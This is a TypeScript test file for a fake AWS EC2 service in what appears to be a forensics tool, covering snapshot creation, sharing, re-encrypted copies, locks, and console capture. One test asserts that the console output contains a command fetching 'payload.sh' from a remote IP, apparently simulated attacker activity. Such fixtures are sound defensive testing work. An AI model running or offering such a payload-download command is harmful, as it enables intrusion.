/**
 * The AWS fake's snapshot lifecycle through the real SDK: instance-level CreateSnapshots with
 * tags, progress over time and on demand, sharing (and the default-key refusal), a re-encrypted
 * copy in the forensic account, snapshot locks, and the console output and screenshot.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  CopySnapshotCommand,
  CreateSnapshotCommand,
  CreateSnapshotsCommand,
  DescribeLockedSnapshotsCommand,
  DescribeSnapshotAttributeCommand,
  DescribeSnapshotsCommand,
  GetConsoleOutputCommand,
  GetConsoleScreenshotCommand,
  LockSnapshotCommand,
  ModifySnapshotAttributeCommand,
  type EC2Client,
} from '@aws-sdk/client-ec2';
import { FIXTURE, FORENSIC_ACCOUNT_ID, FORENSIC_CREDENTIALS, startAwsFake, type AwsFake } from '../aws-fake/index.js';
import { fakeEc2 } from '../aws-fake/clients.js';
import { awsError } from '../aws-fake/test-helpers.js';

let fake: AwsFake;
let ec2: EC2Client;

async function start(snapshotCompletionMs: number | null): Promise<void> {
  fake = await startAwsFake({ snapshotCompletionMs });
  ec2 = fakeEc2(fake);
}

afterEach(async () => {
  ec2.destroy();
  await fake.close();
});

async function describe1(id: string) {
  return (await ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [id] }))).Snapshots![0]!;
}

describe('aws fake: CreateSnapshots and progress', () => {
  it('snapshots every volume of an instance with the case tags; progress advances with time', async () => {
    await start(800);
    const out = await ec2.send(
      new CreateSnapshotsCommand({
        InstanceSpecification: { InstanceId: FIXTURE.webInstanceId },
        Description: 'Caseward CASE-42',
        TagSpecifications: [{ ResourceType: 'snapshot', Tags: [{ Key: 'caseward:case', Value: 'CASE-42' }] }],
        CopyTagsFromSource: 'volume',
      }),
    );
    const snaps = out.Snapshots!;
    expect(snaps.map((s) => s.VolumeId).sort()).toEqual([FIXTURE.webRootVolumeId, FIXTURE.webDataVolumeId].sort());
    for (const s of snaps) {
      expect(s.State).toBe('pending');
      expect(s.Encrypted).toBe(true);
      expect(s.Tags).toContainEqual({ Key: 'caseward:case', Value: 'CASE-42' });
      expect(s.SnapshotId).toMatch(/^snap-[0-9a-f]{17}$/);
    }
    expect(snaps.find((s) => s.VolumeId === FIXTURE.webRootVolumeId)!.Tags).toContainEqual({ Key: 'Name', Value: 'web-1-root' });
    const first = await describe1(snaps[0]!.SnapshotId!);
    expect(first.State).toBe('pending');
    expect(first.Progress).toMatch(/^\d{1,2}%$/);
    await new Promise((r) => setTimeout(r, 850));
    const done = await describe1(snaps[0]!.SnapshotId!);
    expect(done).toMatchObject({ State: 'completed', Progress: '100%', VolumeSize: 8 });
    expect(done.CompletionTime!.getTime()).toBeGreaterThanOrEqual(done.StartTime!.getTime());
  });

  it('excludes the boot volume when asked, and holds snapshots for tests that step progress', async () => {
    await start(null);
    const out = await ec2.send(new CreateSnapshotsCommand({ InstanceSpecification: { InstanceId: FIXTURE.webInstanceId, ExcludeBootVolume: true } }));
    expect(out.Snapshots!.map((s) => s.VolumeId)).toEqual([FIXTURE.webDataVolumeId]);
    const id = out.Snapshots![0]!.SnapshotId!;
    expect((await describe1(id)).Progress).toBe('0%');
    fake.state.setSnapshotProgress(id, 55);
    expect(await describe1(id)).toMatchObject({ State: 'pending', Progress: '55%' });
    fake.state.completeSnapshot(id);
    expect(await describe1(id)).toMatchObject({ State: 'completed', Progress: '100%' });
  });

  it('creates a single-volume snapshot and lists own snapshots, including the seeded ones', async () => {
    await start(null);
    const one = await ec2.send(new CreateSnapshotCommand({ VolumeId: FIXTURE.dbRootVolumeId, Description: 'db' }));
    expect(one).toMatchObject({ State: 'pending', VolumeId: FIXTURE.dbRootVolumeId, Encrypted: false, Description: 'db' });
    const mine = await ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ['self'] }));
    const ids = mine.Snapshots!.map((s) => s.SnapshotId);
    expect(ids).toEqual(expect.arrayContaining([FIXTURE.completedSnapshotId, FIXTURE.pendingSnapshotId, one.SnapshotId]));
    const pending = await ec2.send(new DescribeSnapshotsCommand({ Filters: [{ Name: 'status', Values: ['pending'] }] }));
    expect(pending.Snapshots!.find((s) => s.SnapshotId === FIXTURE.pendingSnapshotId)?.Progress).toBe('42%');
  });
});

describe('aws fake: sharing, re-encrypted copy, lock', () => {
  beforeEach(() => start(0));

  it('refuses to share a snapshot under the AWS managed key, as AWS does', async () => {
    const out = await ec2.send(new CreateSnapshotsCommand({ InstanceSpecification: { InstanceId: FIXTURE.webInstanceId } }));
    const data = out.Snapshots!.find((s) => s.VolumeId === FIXTURE.webDataVolumeId)!;
    const err = await awsError(
      ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: data.SnapshotId!, Attribute: 'createVolumePermission', OperationType: 'add', UserIds: [FORENSIC_ACCOUNT_ID] })),
    );
    expect(err).toMatchObject({ name: 'OperationNotPermitted', status: 400 });
    expect(err.message).toBe('Encrypted snapshots with EBS default key cannot be shared');
  });

  it('shares a CMK snapshot with the forensic account, which copies it re-encrypted under its own key', async () => {
    const out = await ec2.send(new CreateSnapshotsCommand({ InstanceSpecification: { InstanceId: FIXTURE.webInstanceId } }));
    const root = out.Snapshots!.find((s) => s.VolumeId === FIXTURE.webRootVolumeId)!.SnapshotId!;
    await ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: root, CreateVolumePermission: { Add: [{ UserId: FORENSIC_ACCOUNT_ID }] } }));
    const attr = await ec2.send(new DescribeSnapshotAttributeCommand({ SnapshotId: root, Attribute: 'createVolumePermission' }));
    expect(attr.CreateVolumePermissions).toEqual([{ UserId: FORENSIC_ACCOUNT_ID }]);

    const forensic = fakeEc2(fake, { identity: FORENSIC_CREDENTIALS });
    const shared = await forensic.send(new DescribeSnapshotsCommand({ RestorableByUserIds: ['self'] }));
    expect(shared.Snapshots!.map((s) => s.SnapshotId)).toEqual([root]);
    const key = `arn:aws:kms:us-east-1:${FORENSIC_ACCOUNT_ID}:key/9f8e7d6c-5b4a-3928-1716-151413121110`;
    const noFlag = await awsError(forensic.send(new CopySnapshotCommand({ SourceRegion: 'us-east-1', SourceSnapshotId: root, KmsKeyId: key })));
    expect(noFlag.name).toBe('InvalidParameterDependency');
    const copy = await forensic.send(
      new CopySnapshotCommand({
        SourceRegion: 'us-east-1',
        SourceSnapshotId: root,
        Encrypted: true,
        KmsKeyId: key,
        TagSpecifications: [{ ResourceType: 'snapshot', Tags: [{ Key: 'caseward:case', Value: 'CASE-42' }] }],
      }),
    );
    expect(copy.Tags).toEqual([{ Key: 'caseward:case', Value: 'CASE-42' }]);
    const described = (await forensic.send(new DescribeSnapshotsCommand({ SnapshotIds: [copy.SnapshotId!] }))).Snapshots![0]!;
    expect(described).toMatchObject({ OwnerId: FORENSIC_ACCOUNT_ID, Encrypted: true, KmsKeyId: key, VolumeId: 'vol-ffffffff' });
    expect(described.Description).toBe(`[Copied ${root} from us-east-1]`);
    const fromVictim = await awsError(ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [copy.SnapshotId!] })));
    expect(fromVictim.name).toBe('InvalidSnapshot.NotFound');
    forensic.destroy();
  });

  it('refuses to copy a pending snapshot', async () => {
    const err = await awsError(ec2.send(new CopySnapshotCommand({ SourceRegion: 'us-east-1', SourceSnapshotId: FIXTURE.pendingSnapshotId })));
    expect(err.name).toBe('IncorrectState');
  });

  it('locks snapshots in compliance mode (with cool-off) and governance mode', async () => {
    const lock = await ec2.send(new LockSnapshotCommand({ SnapshotId: FIXTURE.completedSnapshotId, LockMode: 'compliance', CoolOffPeriod: 1, LockDuration: 30 }));
    expect(lock).toMatchObject({ SnapshotId: FIXTURE.completedSnapshotId, LockState: 'compliance-cooloff', LockDuration: 30, CoolOffPeriod: 1 });
    expect(lock.LockExpiresOn!.getTime() - lock.LockCreatedOn!.getTime()).toBe(30 * 24 * 3600_000);
    fake.state.advanceClock(2 * 3600_000);
    const listed = await ec2.send(new DescribeLockedSnapshotsCommand({ SnapshotIds: [FIXTURE.completedSnapshotId] }));
    expect(listed.Snapshots).toHaveLength(1);
    expect(listed.Snapshots![0]).toMatchObject({ LockState: 'compliance', OwnerId: '111122223333' });
    const shorter = await awsError(ec2.send(new LockSnapshotCommand({ SnapshotId: FIXTURE.completedSnapshotId, LockMode: 'compliance', LockDuration: 1 })));
    expect(shorter.name).toBe('IncorrectState');
    const gov = await ec2.send(new LockSnapshotCommand({ SnapshotId: FIXTURE.pendingSnapshotId, LockMode: 'governance', LockDuration: 7 }));
    expect(gov.LockState).toBe('governance');
    const byState = await ec2.send(new DescribeLockedSnapshotsCommand({ Filters: [{ Name: 'lock-state', Values: ['governance'] }] }));
    expect(byState.Snapshots!.map((s) => s.SnapshotId)).toEqual([FIXTURE.pendingSnapshotId]);
  });
});

describe('aws fake: console output and screenshot', () => {
  beforeEach(() => start(0));

  it('returns the console text base64 with a timestamp', async () => {
    const out = await ec2.send(new GetConsoleOutputCommand({ InstanceId: FIXTURE.webInstanceId, Latest: true }));
    const text = Buffer.from(out.Output!, 'base64').toString('utf8');
    expect(text).toContain('curl -s http://198.51.100.7/payload.sh');
    expect(out.Timestamp).toBeInstanceOf(Date);
    const quiet = await ec2.send(new GetConsoleOutputCommand({ InstanceId: FIXTURE.dbInstanceId }));
    expect(quiet.Output).toBeUndefined();
  });

  it('returns a real JPEG screenshot', async () => {
    const out = await ec2.send(new GetConsoleScreenshotCommand({ InstanceId: FIXTURE.webInstanceId, WakeUp: true }));
    const jpeg = Buffer.from(out.ImageData!, 'base64');
    expect(jpeg.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    expect(jpeg.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    const file = path.join(os.tmpdir(), `caseward-screenshot-${process.pid}.jpg`);
    fs.writeFileSync(file, jpeg);
    try {
      // Pillow (Debian's python3-pil) is an independent JPEG decoder; without it the markers above must do.
      const probe = "from PIL import Image; import sys; im = Image.open(sys.argv[1]); im.load(); print(im.format, im.size[0], im.size[1])";
      let decoded: string | undefined;
      try {
        decoded = execFileSync('/usr/bin/python3', ['-c', probe, file], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
      } catch {
        console.warn('aws-fake screenshot: /usr/bin/python3 with PIL not available; JPEG checked by markers only');
      }
      if (decoded !== undefined) expect(decoded).toBe('JPEG 256 160');
    } finally {
      fs.rmSync(file, { force: true });
    }
  });
});
